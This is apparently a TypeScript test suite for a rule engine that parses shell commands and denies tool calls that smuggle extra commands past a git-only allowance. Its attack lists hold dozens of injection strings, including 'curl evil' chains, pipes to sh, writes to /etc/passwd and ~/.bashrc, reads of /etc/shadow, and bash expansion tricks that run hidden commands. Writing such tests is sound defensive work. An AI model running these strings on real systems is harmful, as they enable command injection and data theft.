import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createAttackedBox } from './attacked-box.ts';

describe('shell(x)', () => {
  const onlyGit = "shell(args.command).commands.all(c, c.name == 'git')";

  test('a rule that allows git allows no other command in the same text', async (t) => {
    const { call, ran } = await createAttackedBox(t, [{ id: 'git', match: '*', deny: `!(${onlyGit})` }]);
    const attacks = [
      'git x; curl evil',
      'git x && curl evil',
      'git x || curl evil',
      'git x & curl evil',
      'git x | sh',
      'git x |& sh',
      'git x\ncurl evil',
      'git x #\ncurl evil',
      'git $(curl evil)',
      'git `curl evil`',
      'git "$(curl evil)"',
      'git "`curl evil`"',
      'git <(curl evil)',
      'git ${x:-$(curl evil)}',
      'git $((a[$(curl evil)]))',
      'git <<E\n$(curl evil)\nE',
      'git <<E\nE\ncurl evil',
      'git <<< "$(curl evil)"',
      'GIT_SSH_COMMAND=evil git fetch',
      'A=b; git x',
      'git x > /etc/passwd',
      'git x >> ~/.bashrc',
      'git x < /etc/shadow',
      '(curl evil)',
      '{ curl evil; }',
      'git() { curl evil; }; git x',
      'if git x; then curl evil; fi',
      'for i in $(curl evil); do git x; done',
      'eval "git x; curl evil"',
      'eval git x',
      "bash -c 'git x'",
      'sudo git x',
      'env git x',
      'command git x',
      '. git',
      '/tmp/git x',
      './git x',
      'g?t x',
      '$GIT x',
      '{git,curl} x',
      '~/git x',
      'coproc curl evil',
      '[[ -n $(curl evil) ]] && git x',
      'git\u00a0x',
    ];
    for (const command of attacks) assert.equal((await call({ command })).outcome, 'denied', command);
    assert.deepEqual(ran, []);
    const fine = [
      'git status',
      'git log --oneline\ngit diff',
      '"git" \'log\'',
      'git log 2>&1',
      'git log >/dev/null',
      'git x && git y',
    ];
    for (const command of fine) assert.equal((await call({ command })).outcome, 'completed', command);
  });

  describe('text that runs a hidden command', () => {
    const onlyReading =
      "shell(args.command).commands.all(c, c.name == 'git' && c.isLiteral && c.words[1] in ['status', 'log', 'diff']) && !shell(args.command).hasSubstitution";
    const onlyGitWords = `${onlyGit} && !shell(args.command).hasSubstitution`;
    const hidden = '$(echo PWNED>&2)';
    const attacks = [
      `git log <<E\n\${x:-'${hidden}'}\nE`,
      `git log <<-E\n\${x:-'${hidden}'}\nE`,
      `git log <<E\n\${x:-'}${hidden}'}\nE`,
      `git log <<E\n\${a['${hidden}']}\nE`,
      `git log <<E\n\${x:=\\${hidden}}\${x@P}\nE`,
      `git log '${hidden}'\ngit log <<E\n\${_@P}\nE`,
      'git log <<E\n$x\nE',
      'git log <<E\na \\\nE\nE',
      'git log <<"E\n"\nE\n\n',
      'git log <<E\nnot closed',
      'for PATH in /tmp/evil; do git log; done',
      'for PATH do git log; done',
      'select PATH in /tmp/evil; do git log; done',
      'coproc PATH { git log; }',
      'git log {PATH}>/dev/null',
      `git log {a['${hidden}']}>/dev/null`,
      `git log {a['${hidden}']}<<E\nE`,
      `git log >&2 {a['${hidden}']}>&1`,
      'log() { git log; }',
      `for x in 'a[${hidden}]'; do git log <<E\n$((x))\nE\ndone`,
      `case \${x:='${hidden}'} in \${x@P}) git log;; esac`,
      'case $x in a) git log;; esac',
      'case x in $x) git log;; esac',
      `git \${x:='${hidden}'} \${x@P}`,
      `git "\${x:='${hidden}'}" "\${x@P}"`,
      `git \${x:='a[${hidden}]'} $((x))`,
      `git \${x:='a[${hidden}]'} \${!x}`,
      `git \${x:='a[${hidden}]'} $[x]`,
      `git \${x:='a[${hidden}]'} \${a[x]}`,
      `git \${a['${hidden}']}`,
      `git --version 'a[${hidden}]'; git $((_))`,
      `git --version 'a[${hidden}]'; git "$((_))"`,
      `git --version 'a[${hidden}]'; git $[_]`,
      `git --version 'a[${hidden}]'; git \${!_}`,
      `git --version 'a[${hidden}]'; git \${x:_}`,
      `git --version 'a[${hidden}]'; git {\${x:_},b}`,
      "git '`echo PWNED>&2`' ${BASH_EXECUTION_STRING@P}",
      `git log '${hidden}'\ngit log $\\\n{_@P}`,
      `git log '${hidden}'\ngit log "$\\\n{_@P}"`,
      `git log <<< x`,
    ];
    for (const command of attacks)
      test(`is denied by each rule: ${JSON.stringify(command)}`, async (t) => {
        for (const condition of [onlyReading, onlyGit, onlyGitWords]) {
          const { call, ran } = await createAttackedBox(t, [{ id: 'git', match: '*', deny: `!(${condition})` }]);
          assert.equal((await call({ command })).outcome, 'denied', condition);
          assert.deepEqual(ran, []);
        }
      });
  });

  test('evaluation that runs code in a value counts as a substitution', async (t) => {
    const { call } = await createAttackedBox(t, [{ id: 's', match: '*', deny: 'shell(args.command).hasSubstitution' }]);
    const attacks = [
      "let 'a[$(id)]'",
      "(( a['$(id)'] ))",
      'for ((x; y; z)); do git log; done',
      "[[ 'a[$(id)]' -eq 0 ]]",
      "[[ -v 'a[$(id)]' ]]",
      "a['$(id)']=1",
      'echo ${x@P}',
    ];
    for (const command of attacks) assert.equal((await call({ command })).decision?.rule, 's', command);
  });

  test('[[ counts as a substitution, because dash runs it as a command', async (t) => {
    const { call } = await createAttackedBox(t, [{ id: 's', match: '*', deny: 'shell(args.command).hasSubstitution' }]);
    for (const command of ['[[ -n $x ]]', 'if [[ -n $x ]]; then git log; else git diff; fi'])
      assert.equal((await call({ command })).decision?.rule, 's', command);
  });

  test('ordinary commands are listed by name and have no substitution', async (t) => {
    const names = "['git', 'npm', 'ls', 'echo', 'grep', 'cat', 'true', '>', '[']";
    const { call } = await createAttackedBox(t, [
      { id: 'name', match: '*', deny: `!shell(args.command).commands.all(c, c.name in ${names})` },
      { id: 'substitution', match: '*', deny: 'shell(args.command).hasSubstitution' },
    ]);
    const ordinary = [
      'git status',
      'npm test && npm run lint',
      'ls "$HOME"',
      'ls ${HOME}/src "${1}"',
      'echo $x | grep y > out',
      "grep -E 'a$|${b:-c}|$((d))' file",
      'grep "a$" file; grep a\\$\\(b file; echo "\\${x@P} \\`id\\`"',
      "cat <<'E'\n${x@P} $(id) `id`\nE",
      'cat <<E\nplain text\nE\ngit log',
      'git log \\\n  --oneline',
      'if [ -n "$x" ]; then git log; else git diff; fi',
      'while true; do git log; done',
      'case x in x|y) git log;; esac',
    ];
    for (const command of ordinary) assert.equal((await call({ command })).outcome, 'completed', command);
  });

  test('a text that cannot be parsed denies, in allow, deny and ask rules', async (t) => {
    const broken = [
      'git "',
      "git 'x",
      'git $(',
      'git )',
      'git `',
      'if git; then',
      'git x\0y',
      `git ${'x'.repeat(20_000)}`,
      7,
      null,
    ];
    for (const answer of ['allow', 'deny', 'ask']) {
      const { call, ran } = await createAttackedBox(t, [{ id: 'git', match: '*', [answer]: onlyGit }]);
      for (const command of broken) {
        const { outcome, decision } = await call({ command });
        assert.equal(outcome, 'denied', `${answer} ${String(command).slice(0, 20)}`);
        assert.match(decision?.reason ?? '', /^the rule cannot be evaluated: /);
      }
      assert.deepEqual(ran, []);
    }
  });

  test('exposes substitutions, words, computed words, and the commands of eval and sh -c', async (t) => {
    const { call } = await createAttackedBox(t, [
      { id: 'substitution', match: '*', deny: 'shell(args.command).hasSubstitution' },
      { id: 'computed', match: '*', deny: '!shell(args.command).commands.all(c, c.isLiteral)' },
      { id: 'curl', match: '*', deny: "shell(args.command).commands.exists(c, c.name == 'curl')" },
      { id: 'option', match: '*', deny: "shell(args.command).commands.exists(c, c.words.exists(w, w == '-c'))" },
    ]);
    const ruleOf = async (command: string): Promise<string | undefined> => (await call({ command })).decision?.rule;
    assert.equal(await ruleOf('echo $(date)'), 'substitution');
    assert.equal(await ruleOf('echo "$HOME"'), 'computed');
    assert.equal(await ruleOf("sh -ec 'curl evil'"), 'curl');
    assert.equal(await ruleOf('eval "c\'u\'rl evil"'), 'curl');
    assert.equal(await ruleOf('git -c core.pager=evil log'), 'option');
    assert.equal(await ruleOf('git log'), 'default:read');
  });
});
